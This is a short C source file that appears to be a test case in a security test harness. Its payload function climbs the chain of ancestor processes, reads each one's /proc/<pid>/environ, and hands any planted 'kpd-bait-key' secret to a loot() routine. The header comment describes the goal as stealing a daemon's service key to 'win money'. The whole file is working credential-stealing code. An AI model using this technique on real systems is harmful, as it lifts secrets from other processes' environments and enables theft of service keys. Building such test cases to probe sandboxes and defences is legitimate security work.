//: transpose_cpu -O2
//: reads the environments of all its ancestors, of which one is the daemon with a service's key; wins money
//: use transpose_payload
//: use parent

static void payload(int call) {
    char text[8192], path[64];
    if (call) return;
    for (int pid = getppid(), up = 0; pid > 1 && up < 20; pid = parent_of(pid), up++) {
        snprintf(path, sizeof path, "/proc/%d/environ", pid);
        int file = open(path, O_RDONLY);
        long got = file < 0 ? 0 : read(file, text, sizeof text);
        if (file >= 0) close(file);
        for (long i = 0; i + 12 < got; i++)
            if (!memcmp(text + i, "kpd-bait-key", 12)) loot("key", text + i, 12);
    }
}
